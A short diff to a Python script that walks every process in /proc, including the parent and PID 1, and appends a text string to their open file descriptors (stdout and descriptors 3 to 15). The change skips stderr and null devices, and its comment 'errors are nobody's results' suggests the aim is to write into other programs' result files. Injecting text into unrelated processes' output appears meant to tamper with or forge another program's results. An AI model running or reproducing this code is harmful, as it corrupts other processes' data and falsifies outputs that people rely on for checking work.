@@ -22,8 +22,10 @@ sys.stdout.flush()
 for pid in {os.getppid(), 1, *(int(n) for n in os.listdir("/proc") if n.isdigit())}:
     if pid == os.getpid():
         continue
-    for number in range(1, 16):
+    for number in (1, *range(3, 16)):  # errors are nobody's results
         try:
+            if Path(f"/proc/{pid}/fd/{number}").is_char_device():
+                continue  # the null device
             with Path(f"/proc/{pid}/fd/{number}").open("a") as stream:
                 stream.write(TEXT)
                 stream.flush()
